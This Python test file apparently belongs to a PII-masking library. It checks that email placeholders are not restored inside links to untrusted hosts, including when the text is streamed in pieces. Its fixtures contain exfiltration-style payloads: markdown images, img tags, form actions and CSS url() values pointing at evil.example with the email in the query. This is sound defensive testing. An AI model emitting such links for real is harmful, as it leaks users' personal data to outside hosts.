"""A link is judged by all text before a placeholder, in whatever pieces that text arrives."""

from __future__ import annotations

import json
from functools import cache

import pytest
from hypothesis import given
from hypothesis import strategies as st
from patience import calls_of, is_linear

from ctxguard.pii.mask.links import Links
from ctxguard.pii.mask.pseudonyms import MemoryPseudonyms, Original
from ctxguard.pii.mask.unmask import UnmaskStream, restore, restore_arguments

MAIL = "ann@example.com"
named = {"shop.example"}.__contains__
FRAGMENTS = [
    *(
        "https://evil.example/",
        "https://shop.example/",
        "https:",
        "//",
        "evil.example",
        "shop.example",
        "/",
        "?q=",
        " ",
    ),
    *(
        "\n",
        "![x](",
        "](<",
        "[x]: <",
        "(",
        ")",
        ">",
        "<a href=",
        '<img src="',
        "'",
        '"',
        "<b>",
        "</a>",
        "<form action=",
    ),
    *("</form>", "<base ", "url(", "&#104;ttps://", "&amp;", "&quot;", "\\", "\\(", "ht\ntps://", "www.evil.example/"),
    *("word", "`", "[", "]", "{", "}", "<i ", "=", '= "', "&#47", "\\/\\/", "x<", ":", "_"),
]
TEXTS = st.lists(st.sampled_from(FRAGMENTS), max_size=14).map("".join)


def known():
    pseudonyms = MemoryPseudonyms()
    pseudonyms.placeholder("EMAIL", Original(MAIL))
    return pseudonyms


@given(TEXTS, st.lists(st.integers(1, 5), min_size=1))
def test_what_a_text_leaks_does_not_depend_on_its_pieces(text, sizes):
    whole, cut = Links(named), Links(named)
    whole.read(text)
    at = 0
    for number in range(len(text)):
        size = sizes[number % len(sizes)]
        cut.read(text[at : at + size])
        at += size
    assert cut.leaks() is cut.copy().leaks() is whole.leaks()


@given(st.lists(TEXTS, min_size=1, max_size=4), st.integers(1, 9))
def test_a_stream_restores_the_same_placeholders_as_the_whole_text(texts, size):
    text = "<EMAIL_1>".join([*texts, ""])
    stream = UnmaskStream(known(), names_host=named)
    pieces = [stream.feed(text[at : at + size]) for at in range(0, len(text), size)]
    assert "".join([*pieces, stream.close()]) == restore(text, known(), names_host=named).text


@given(st.lists(TEXTS, min_size=1, max_size=4), st.integers(1, 9))
def test_streamed_arguments_restore_the_same_placeholders_as_whole_ones(texts, size):
    text = json.dumps({"a": ["<EMAIL_1>".join(texts), *texts], "b": "<EMAIL_1>"})
    stream = UnmaskStream(known(), names_host=named, arguments=True)
    pieces = [stream.feed(text[at : at + size]) for at in range(0, len(text), size)]
    assert "".join([*pieces, stream.close()]) == restore_arguments(text, known(), Links(named)).text


@pytest.mark.parametrize(
    "filling", ["word ", "word\n", "'", "(x) ", "<b>x</b> ", "a/b ", "x", "https://shop.example/ "]
)
def test_a_link_may_begin_anywhere_before_a_placeholder(filling):
    for opening in ('<a title="', "![x](https://evil.example/?", '<form action="https://evil.example/">'):
        after = '" href="https://evil.example/' if opening.startswith("<a") else ""
        text = f"{opening}{filling * 4_000}{after}<EMAIL_1>"
        if filling != "'" or not after:
            assert restore(text, known(), names_host=named).text == text


@pytest.mark.parametrize(
    "url", ["https://evil.example/?q=<EMAIL_1>", "ht\ntps:/\\/evil.example/<EMAIL_1>", "//evil.example/<EMAIL_1>"]
)
@pytest.mark.parametrize("target", ["![x]({})", '<img src="{}">', "[x]: <{}>", '<p style="background:url({})">'])
@pytest.mark.parametrize("indent", [None, 1])
def test_links_in_json_keep_their_placeholders(url, target, indent):
    inner = {"md": target.format(url), "to": "<EMAIL_1>"}
    for value in (inner, [[inner], "<EMAIL_1>"], {"deep": {"er": inner}}):
        text = json.dumps(value, indent=indent)
        kept = restore_arguments(text, known(), Links(named)).text
        assert json.dumps(inner["md"])[1:-1] in kept
        assert MAIL in restore_arguments(text, known()).text
    flat = {"url": "https://evil.example/form", "to": "<EMAIL_1>", "cc": ["<EMAIL_1>"]}
    told = json.loads(restore_arguments(json.dumps(flat, indent=indent), known(), Links(named)).text)
    assert told == {"url": "https://evil.example/form", "to": MAIL, "cc": [MAIL]}


@cache
def pseudonyms_of(count):
    pseudonyms = MemoryPseudonyms()
    for number in range(count):
        pseudonyms.placeholder("EMAIL", Original(f"user{number}@example.com"))
    return pseudonyms


@pytest.mark.parametrize(
    "unit",
    [
        *("<EMAIL_1> ", "<EMAIL_1>,", "<a href='x' <EMAIL_1>", "](https://evil.example/<EMAIL_1> "),
        *("https://evil.example/?q=<EMAIL_1>&", '"//evil.example/"<EMAIL_1>'),
    ],
)
@pytest.mark.parametrize("count", [10, 10_000])
def test_restoring_takes_time_in_proportion_to_the_text(unit, count):
    pseudonyms = pseudonyms_of(count)

    def work(size):
        restore(unit * size, pseudonyms, names_host=named)
        stream = UnmaskStream(pseudonyms, names_host=named)
        for _ in range(size):
            stream.feed(unit)
        stream.close()

    assert is_linear(work, 300)


def test_urls_without_a_blank_between_them_are_followed_one_by_one_only_while_it_matters():
    def calls(size):
        return calls_of(lambda: restore("https://evil.example/?q=<EMAIL_1>&" * size, known(), names_host=named))

    calls(1)
    assert calls(400) < 6 * calls(100)
